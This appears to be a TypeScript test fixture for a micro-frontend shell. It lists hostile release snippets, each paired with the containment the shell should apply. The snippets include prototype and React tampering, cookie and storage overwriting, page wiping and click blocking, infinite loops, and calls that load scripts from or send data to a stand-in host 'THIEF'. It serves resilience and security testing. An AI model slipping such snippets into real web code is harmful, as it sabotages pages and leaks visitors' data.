import type { Contained, HostileCode, HostileRelease } from './hostile-release.ts';

const runs = (
  id: string,
  does: string,
  browser: HostileCode,
  contained: string,
  more: Omit<Contained, 'contained'> = {},
): HostileRelease => ({ id, does, browser, outcome: { contained, ...more } });

const PUT_BACK = 'what was replaced is put back before the next page runs, and reported';
const POLICY = 'the policy of the page refuses it';
const WAY_ON = 'the page is found to be unusable: it comes back by itself, or says a way on';

/** Releases whose code attacks in the visitor's browser: it runs in the same page as that of all other parts. */
export const IN_THE_BROWSER: readonly HostileRelease[] = [
  runs(
    'replaces-map',
    'replaces a method of all arrays',
    { atLoad: 'Array.prototype.map = () => [];' },
    PUT_BACK,
  ),
  runs(
    'replaces-then',
    'replaces a method of all promises',
    { inEffect: 'Promise.prototype.then = () => {};' },
    PUT_BACK,
    { leaving: 'by-reload' },
  ),
  runs(
    'replaces-json',
    'replaces how JSON is read',
    { atLoad: "JSON.parse = () => { throw new Error('no'); };" },
    PUT_BACK,
  ),
  runs(
    'replaces-fetch',
    'replaces fetch',
    { inEffect: 'window.fetch = () => new Promise(() => {});' },
    'pages come by link or reload, and a new page has its own',
    { leaving: 'by-reload' },
  ),
  runs(
    'replaces-history',
    'replaces the browser’s history',
    { inEffect: 'History.prototype.pushState = () => {};' },
    'a new page has its own',
    { leaving: 'by-reload' },
  ),
  runs(
    'replaces-react',
    'replaces a function of React, which all parts share',
    { atLoad: 'try { shared.React.createElement = () => null; shared.React.useState = () => []; } catch {}' },
    'what is shared is frozen before code of any part runs',
  ),
  runs(
    'replaces-jsx',
    'replaces what JSX of all parts is compiled to',
    { atLoad: 'try { shared.jsx.jsx = () => null; shared.jsx.jsxs = () => null; } catch {}' },
    'what is shared is frozen before code of any part runs',
  ),
  runs(
    'freezes-arrays',
    'freezes what all arrays inherit',
    { inEffect: 'Object.freeze(Array.prototype); Object.freeze(Object.prototype);' },
    'a new page has its own',
    { leaving: 'by-reload' },
  ),
  runs(
    'adds-to-all-objects',
    'gives all objects one more property',
    { atLoad: "Object.prototype.href = 'THIEF'; Object.prototype.disabled = true;" },
    'a new page has its own',
    { leaving: 'by-reload' },
  ),
  runs(
    'keeps-18-kb-of-cookies',
    'sets cookies of 18 kB',
    { inEffect: "for (let i = 0; i < 6; i++) document.cookie = `big${i}=${'x'.repeat(3000)}; path=/`;" },
    'the server answers with a page that removes foreign cookies and comes back',
    { leaving: 'by-reload' },
  ),
  runs(
    'overwrites-cookies',
    'overwrites the cookies of the shell',
    {
      inEffect:
        "for (const name of ['rw-share', 'rw-visit', 'rewald-set']) document.cookie = `${name}=%00{}; path=/`;",
    },
    'cookies that decide are signed or not for scripts; others are checked',
  ),
  runs(
    'empties-storage',
    'removes what others keep in the browser',
    { inEffect: 'localStorage.clear(); sessionStorage.clear();' },
    'carts and sessions are not kept there; a wish list that only the browser had is lost',
  ),
  runs(
    'fills-storage',
    'fills the storage of the browser',
    {
      inEffect:
        "try { for (let i = 0; ; i++) localStorage.setItem('guest' + i, 'x'.repeat(100_000)); } catch {}",
    },
    'what cannot be kept is said, and all else works',
  ),
  runs(
    'wipes-the-page',
    'removes everything from the page',
    { inEffect: 'document.body.replaceChildren();' },
    WAY_ON,
    {
      leaving: 'by-reload',
    },
  ),
  runs(
    'rewrites-the-document',
    'writes another document over the page',
    { inEffect: "document.open(); document.write('<p>mine</p>'); document.close();" },
    'a reload brings the page back',
    {
      leaving: 'by-reload',
    },
  ),
  runs(
    'hides-by-style',
    'hides everything by an adopted style sheet',
    {
      inEffect:
        "const sheet = new CSSStyleSheet(); sheet.replaceSync('* { display: none !important }'); document.adoptedStyleSheets = [sheet];",
    },
    WAY_ON,
    { leaving: 'by-reload' },
  ),
  runs(
    'adds-a-style',
    'adds a style element that hides the header',
    {
      inEffect:
        "document.head.append(Object.assign(document.createElement('style'), { textContent: 'header { display: none !important }' }));",
    },
    POLICY,
  ),
  runs(
    'lies-over-the-page',
    'lays an element over the whole page',
    {
      inEffect:
        "document.body.append(Object.assign(document.createElement('div'), { style: 'position:fixed;inset:0;z-index:99999' }));",
    },
    WAY_ON,
    { leaving: 'by-reload' },
  ),
  runs(
    'stops-clicks',
    'stops all clicks',
    {
      inEffect:
        "window.addEventListener('click', (event) => { event.stopImmediatePropagation(); event.preventDefault(); }, true);",
    },
    WAY_ON,
    { leaving: 'by-reload' },
  ),
  runs(
    'takes-the-focus',
    'takes the focus from every field',
    { inEffect: "window.addEventListener('focusin', (event) => event.target.blur(), true);" },
    WAY_ON,
  ),
  runs(
    'never-ends',
    'never ends in the browser',
    { inEffect: 'for (;;);' },
    'the tab is dead, and reported once it gets air; others work',
    {
      leaving: 'in-new-tab',
    },
  ),
  runs(
    'throws-in-render-of-the-browser',
    'throws while it is rendered in the browser',
    { inRender: "throw new Error('no');" },
    'the version before takes its place',
  ),
  runs(
    'throws-again-and-again',
    'throws in timers without end',
    {
      inEffect:
        "setInterval(() => { throw new Error('again'); }, 5); setInterval(() => Promise.reject(new Error('again')), 5);",
    },
    'reports are limited, and errors of timers harm nobody',
  ),
  runs(
    'registers-a-worker',
    'registers a service worker, which would outlive every rollback',
    {
      inEffect:
        "navigator.serviceWorker?.register('/robots.txt').catch(() => {}); navigator.serviceWorker?.register(URL.createObjectURL(new Blob(['']))).catch(() => {});",
    },
    POLICY,
  ),
  runs(
    'loads-a-foreign-script',
    'loads a script of a server of its own',
    {
      inEffect:
        "document.head.append(Object.assign(document.createElement('script'), { src: 'THIEF/script.js' }));",
    },
    POLICY,
  ),
  runs(
    'runs-text-as-code',
    'runs text as code',
    { inEffect: "try { eval('hit=1'); new Function('hit=1')(); } catch {}" },
    POLICY,
  ),
  runs(
    'sends-elsewhere',
    'sends what it sees to a server of its own',
    {
      inEffect:
        "fetch('THIEF/from-the-browser').catch(() => {}); new Image().src = 'THIEF/picture'; navigator.sendBeacon('THIEF/beacon', '1');",
    },
    POLICY,
  ),
  runs(
    'removes-the-header',
    'removes the header, which React believes to be there',
    { inEffect: "document.querySelector('header')?.remove();" },
    'a reload brings the page back',
    { leaving: 'by-reload' },
  ),
  runs(
    'changes-the-state',
    'changes what the page knows of the releases',
    {
      inEffect:
        "for (const part of Object.values(window.rewaldState?.releases?.parts ?? {})) part.entry = 'THIEF/entry.js'; Object.assign(window.rewaldState?.config ?? {}, { apiHost: 'THIEF', assetsHost: 'THIEF' });",
    },
    'what was read at the start counts',
  ),
  runs(
    'keeps-the-visitor',
    'fills the history, and asks before the visitor leaves',
    {
      inEffect:
        "for (let i = 0; i < 60; i++) history.pushState({}, '', location.href); window.addEventListener('beforeunload', (event) => event.preventDefault());",
    },
    'it is about its own page only',
  ),
];
